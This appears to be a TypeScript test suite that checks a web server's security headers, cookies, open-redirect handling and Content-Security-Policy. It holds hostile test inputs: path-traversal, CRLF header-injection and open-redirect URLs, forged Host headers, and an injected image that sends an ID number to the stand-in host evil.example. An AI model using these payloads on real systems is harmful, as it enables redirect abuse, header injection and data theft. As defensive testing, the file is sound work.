import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import type { Json } from '../../engine/index.ts'
import { policyOf } from '../../server/http/headers.ts'
import { openAddresses } from '../../server/pages/addresses.ts'
import { openBrowser } from '../../tools/browser.ts'
import { catalogueOf, openTest, pagesOf, template, variantNamed } from '../server/kit.ts'
import { elsewhere } from './elsewhere.ts'
import { credentials, openWithRoutes, type Route } from './routes.ts'

describe('headers', () => {
  let opened: Awaited<ReturnType<typeof openWithRoutes>>
  beforeAll(async () => {
    opened = await openWithRoutes()
  })
  afterAll(async () => {
    await opened.app.close()
    opened.clear()
  })

  /** An address for every pattern of the route table; those that answer well beside those that do not. */
  const examples: Readonly<Record<string, readonly string[]>> = {
    '/*': ['/', '/lua/', '/lua/ana-souza/52998224725/', '/corretor/x', '/nada', '/lua/%E0%A4%A'].concat(
      '//evil.example',
    ),
    '/api/*': ['/api/', '/api/nada', '/api/%E0%A4%A'],
    '/api/captcha': ['/api/captcha', '/api/captcha?action=x'],
    '/assets/*': ['/assets/a.js', '/assets/nada.js', '/assets/..%2f..%2fpackage.json', '/assets/'],
    '/assets/variantes/*': ['/assets/variantes/logo.svg', '/assets/variantes/nada.svg'],
    '/boleto/:file': ['/boleto/x.pdf', '/boleto/x'],
    '/documentos/:prefix/termos': ['/documentos/lua/termos', '/documentos/nada/termos'],
    '/documentos/:prefix/privacidade': ['/documentos/lua/privacidade'],
    '/pagar/:uid': ['/pagar/x', '/pagar/%20'],
    '/dev/caixa/:id': ['/dev/caixa/1'],
    '/dev/cartao/pagina/:name': ['/dev/cartao/pagina/x'],
    '/funil/*': ['/funil/nada.json'],
    '/tema/*': ['/tema/nada.svg'],
    '/vendas/:prefix': ['/vendas/lua', '/vendas/nada'],
    '/vendas/:prefix/vender': ['/vendas/lua/vender'],
    '/vendas/:prefix/remover': ['/vendas/lua/remover'],
    '/vendas/:prefix/limpar': ['/vendas/lua/limpar'],
  }

  /** What has no parts in its address is its own example. */
  const examplesOf = ({ url }: Route): readonly string[] =>
    examples[url] ?? (/^(\/[\w.-]+)+$/.test(url) ? [url] : [])

  const asked = async ({ method, url }: Route, headers: Readonly<Record<string, string>> = {}) =>
    opened.app.inject({ method: method as 'GET', url, headers: { host: 'localhost', ...headers } })

  /** Every method of every route with every example, asked as a stranger and as the operator. */
  async function* answers() {
    for (const route of opened.routes)
      for (const url of examplesOf(route))
        for (const headers of [{}, credentials]) {
          const reply = await asked({ ...route, url }, headers)
          yield { ...reply, headers: reply.headers, where: `${route.method} ${url} ${reply.statusCode}` }
        }
  }

  const policyIn = (header: unknown): Readonly<Record<string, string>> =>
    Object.fromEntries(
      String(header)
        .split('; ')
        .map((directive) => [directive.split(' ', 1)[0] ?? '', directive.slice(directive.indexOf(' ') + 1)]),
    )

  /** What only a page of ours may show in a frame: the imitation of a payment service's fields, and an e-mail. */
  const framedByUs = /^(GET|HEAD) \/dev\/(cartao\/campos|caixa\/1) /

  const keptLong = ['public, max-age=31536000, immutable', 'public, max-age=300']

  describe('every route', () => {
    it('has an example here', () => {
      expect(opened.routes.filter((route) => examplesOf(route).length === 0)).toEqual([])
      expect(opened.routes.length).toBeGreaterThan(40)
    })

    it('answers whatever comes with the headers that keep a page from being framed, guessed at and kept', async () => {
      const wrong: string[] = []
      for await (const { headers, where } of answers()) {
        const policy = policyIn(headers['content-security-policy'])
        const holds = {
          'frame-ancestors': policy['frame-ancestors'] === (framedByUs.test(where) ? "'self'" : "'none'"),
          'default-src': policy['default-src']?.startsWith("'none'"),
          framed: headers['x-frame-options'] === (framedByUs.test(where) ? 'SAMEORIGIN' : 'DENY'),
          guessed: headers['x-content-type-options'] === 'nosniff',
          told: headers['referrer-policy'] === 'no-referrer',
          opened: headers['cross-origin-opener-policy'] === 'same-origin',
          taken: headers['cross-origin-resource-policy'] === 'same-origin',
          allowed: String(headers['permissions-policy']).includes('camera=(), microphone=(), geolocation=()'),
          shared: headers['access-control-allow-origin'] === undefined,
          named: headers.server === undefined && headers['x-powered-by'] === undefined,
        }
        wrong.push(...Object.entries(holds).flatMap(([name, is]) => (is ? [] : [`${where}: ${name}`])))
      }
      expect(wrong).toEqual([])
    })

    it('lets nothing be kept but what is the same for everybody', async () => {
      const kept = new Set<string>()
      for await (const { headers, where } of answers()) {
        const rule = String(headers['cache-control'])
        if (rule === 'no-store') continue
        expect(keptLong).toContain(rule)
        expect(headers).not.toHaveProperty('set-cookie')
        kept.add(where.replace(/^\S+ /, ''))
      }
      expect([...kept].sort()).toEqual(['/assets/a.js 200', '/assets/variantes/logo.svg 200'])
    })

    it('gives its cookie to no script and to no other site', async () => {
      let given = 0
      for await (const { headers } of answers()) {
        if (headers['set-cookie'] === undefined) continue
        given += 1
        expect(String(headers['set-cookie'])).toMatch(
          /^__Host-venda=[^;,]+; Path=\/; Max-Age=86400; HttpOnly; SameSite=Lax; Secure$/,
        )
      }
      expect(given).toBeGreaterThan(3)
    })

    it('changes nothing for a page of another site', async () => {
      const wrong: string[] = []
      const elsewhere = { 'sec-fetch-site': 'cross-site', origin: 'https://evil.example', ...credentials }
      const writing = opened.routes.filter(
        (route) => !['GET', 'HEAD', 'OPTIONS', 'TRACE'].includes(route.method),
      )
      for (const route of writing) {
        for (const url of examplesOf(route)) {
          const { statusCode } = await asked({ ...route, url }, elsewhere)
          if (statusCode !== 403) wrong.push(`${route.method} ${url} ${statusCode}`)
        }
      }
      expect(writing.length).toBeGreaterThan(5)
      expect(wrong).toEqual([])
    })
  })

  describe('a page', () => {
    it('of a person, of an order or of the house is for no search engine, by its header as well as by its own words', async () => {
      const found = new Set<string>()
      for await (const { headers, body, where } of answers()) {
        if (!/^text\/html/.test(String(headers['content-type']))) continue
        const isHidden = String(headers['x-robots-tag']).startsWith('noindex')
        if (where.startsWith('GET') && isHidden)
          expect([where, body.includes('content="noindex')]).toEqual([where, true])
        if (!isHidden) found.add(where.replace(/^\S+ /, ''))
      }
      expect([...found].sort()).toEqual(['/ 200', '/lua/ 200'])
    })
  })
})

describe('a redirect of the server', () => {
  it('leads to a path of this server, whatever path and whatever host it was asked for', async () => {
    const { app } = await openTest()
    const paths = elsewhere.flatMap((url) => [
      `/${encodeURI(url)}`,
      `/lua/${encodeURIComponent(url)}`,
      `//${url}`,
    ])
    const tails = [
      '/..//evil.example',
      '/%2e%2e/evil.example',
      '/%5cevil.example',
      '/lua/%0d%0aLocation:x',
      '/;@evil.example',
    ]
    const seen = new Set<string>()
    for (const url of [...paths, ...tails]) {
      for (const host of ['localhost', 'evil.example', 'localhost@evil.example', 'localhost:1\r\nx: y']) {
        const { headers } = await app.inject({
          url: url.replaceAll('\u0001', '').replaceAll(/\s/g, ''),
          headers: { host, 'x-forwarded-host': 'evil.example' },
        })
        seen.add(String(headers.location))
        expect(JSON.stringify(headers)).not.toContain('evil.example')
      }
    }
    expect([...seen].filter((to) => to !== 'undefined' && !/^\/([a-z-]+\/)?$/.test(to))).toEqual([])
    expect(openAddresses([])('//evil.example')).toEqual({ kind: 'unknown', near: [] })
  })
})

describe('a policy', () => {
  type Policy = ReadonlyMap<string, readonly string[]>

  /** Reads a policy; a directive written twice would count for its first writing alone. */
  function read(header: unknown): Policy {
    const written = String(header)
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .map(([name = '', ...sources]) => [name, sources] as const)
    expect(new Set(written.map(([name]) => name)).size).toBe(written.length)
    return new Map(written)
  }

  const known =
    /^((default|script|style|img|connect|worker|font|frame|manifest|object)-src|form-action|base-uri|frame-ancestors|require-trusted-types-for|trusted-types|report-uri)$/
  /** A word of the language, the hash of something, or one host over https with a name of its own. */
  const sound =
    /^('(none|self)'|'sha256-[\w+/]{43}='|data:|https:\/\/(\*\.)?[a-z][a-z0-9-]*(\.[a-z0-9-]+)*\.[a-z]{2,})$/

  /** Says what an evaluator of policies would: each line is one weakness. */
  function weaknesses(policy: Policy): readonly string[] {
    const effective = (name: string) => policy.get(name) ?? policy.get('default-src') ?? ['*']
    const alone = (name: string, word: string) => effective(name).join(' ') === word
    const sources = [...policy]
      .filter(([name]) => !/trusted-types|report-uri/.test(name))
      .flatMap(([, each]) => each)
    const found = {
      'an unknown directive': [...policy.keys()].some((name) => !known.test(name)),
      'a source that is no word, hash or host': sources.some((source) => !sound.test(source)),
      'scripts from data': effective('script-src').includes('data:'),
      objects: !alone('object-src', "'none'"),
      'another base': !(policy.get('base-uri')?.join(' ') === "'none'"),
      'framed by others': !(policy.get('frame-ancestors')?.join(' ') === "'none'"),
      'forms sent elsewhere': !(policy.get('form-action')?.join(' ') === "'self'"),
      'allowed by default': !(policy.get('default-src')?.join(' ') === "'none'"),
      'texts as scripts': policy.get('require-trusted-types-for')?.join(' ') !== "'script'",
      'reports to others': policy.get('report-uri')?.join(' ') !== '/csp',
      'rules of anybody': policy.get('trusted-types')?.join(' ') !== 'default',
    }
    return Object.entries(found).flatMap(([name, is]) => (is ? [name] : []))
  }

  const services = {
    tagManager: { id: 'GTM-ABC123', hosts: ['tags.example.com'] },
    analytics: { id: 'G-ABC123', hosts: ['numeros.example.com', '*.numeros.example.com'] },
    pixel: { id: '123456', hosts: ['pixel.example.com'] },
    chat: { url: 'https://chat.example.com/a.js', hosts: ['chat.example.com'] },
  } satisfies Readonly<Record<string, Json>>

  const lines = { termos: { versao: '1', titulo: 'Termos', texto: ['Um.'] } }
  const opened = (integracoes: Json) =>
    openTest({
      pages: pagesOf(
        template.replace('<script', '<script type="importmap">{"integrity":{}}</script><script'),
      ),
      catalogue: catalogueOf(
        variantNamed('sol', { rotas: { prefixo: 'sol', inicial: true }, integracoes, ...lines }),
      ),
    })
  const addresses = [
    '/',
    '/sol/ana/52998224725/',
    '/corretor/x',
    '/documentos/sol/termos',
    '/api/nada',
    '/nada',
  ]

  it.each([
    ['no service', {}],
    ...Object.entries(services).map(([name, each]) => [name, { [name]: each }] as const),
    ['every service', services],
  ] as const)('has no weakness on any page of a variant with %s', async (_, integracoes) => {
    const { app } = await opened(integracoes)
    for (const url of addresses) {
      const { headers } = await app.inject({ url, headers: { host: 'localhost' } })
      expect([url, weaknesses(read(headers['content-security-policy']))]).toEqual([url, []])
    }
  })

  it('is called weak where it is', () => {
    const weak = (part: string) => weaknesses(read(`${policyOf(undefined)}; ${part}`))
    expect(weaknesses(read("script-src 'self'"))).toHaveLength(8)
    expect(weak('object-src *')).toEqual(['a source that is no word, hash or host', 'objects'])
    const open = ["'unsafe-inline'", "'unsafe-eval'", 'https:', 'http://example.com', '*', 'blob:']
    for (const source of [...open, 'https://10.0.0.1', 'https://*.com']) {
      const policy = policyOf(undefined).replace("script-src 'self'", `script-src ${source}`)
      expect(weaknesses(read(policy))).toEqual(['a source that is no word, hash or host'])
    }
  })

  it('lets the hosts of a service in where that service needs them: frames are for the chat alone', async () => {
    const { app } = await opened(services)
    const policy = read((await app.inject({ url: '/' })).headers['content-security-policy'])
    const of = (name: string) => (policy.get(name) ?? []).filter((source) => source.startsWith('https://'))
    const measuring = ['tags', 'numeros', '*.numeros', 'pixel'].map((name) => `https://${name}.example.com`)
    const chat = 'https://chat.example.com'
    expect(of('frame-src')).toEqual([chat])
    for (const name of ['script-src', 'connect-src', 'img-src'])
      expect(of(name)).toEqual([...measuring, chat])
    const others = 'default-src style-src worker-src font-src form-action base-uri manifest-src'
    for (const name of others.split(' ')) expect([name, of(name)]).toEqual([name, []])
  })

  it('lets no host in that could end the directive, stand for all, or lead back here', () => {
    const hosts = [
      '*',
      '*.com',
      "x.example; script-src 'unsafe-inline'",
      "'unsafe-eval'",
      'x.example,y.example',
      'http://x.example',
      'https://x.example',
      'x.example/path',
      'x.example:8080',
      'X.EXAMPLE',
      'localhost',
      '10.0.0.1',
      '__proto__',
      'x.example\n',
      ' x.example',
      7,
      null,
    ]
    const pixel = { id: '1', hosts }
    expect(policyOf({ pixel })).toBe(policyOf({}))
    expect(policyOf({ constructor: pixel, toString: pixel })).toBe(policyOf({}))
  })
})

describe('a browser', () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await openBrowser()
  })
  afterAll(() => browser.close())

  it('tells the server what the policy of a page kept from happening, and of the page no more than its template', async () => {
    const { app, lines } = await openTest()
    const { port } = new URL(await app.listen({ host: '127.0.0.1', port: 0 }))
    const page = await browser.newPage()
    await page.goto(`http://localhost:${port}/sol/ana-souza/52998224725`)
    await page.evaluate(() => {
      const picture = document.createElement('img')
      picture.src = 'https://evil.example/a.png?cpf=52998224725'
      document.body.append(picture)
    })
    const told = () => lines.map((line) => JSON.parse(line)).filter(({ directive }) => directive)
    await vi.waitFor(() => expect(told().length).toBeGreaterThan(0), { timeout: 60_000 })
    expect(told()).toContainEqual(
      expect.objectContaining({
        directive: 'img-src',
        blocked: 'evil.example',
        route: '/sol/:nome/:idCorretor',
      }),
    )
    expect(lines.join('')).not.toMatch(/52998|ana-souza/)
    await page.close()
    app.server.closeAllConnections()
    await app.close()
  })
})
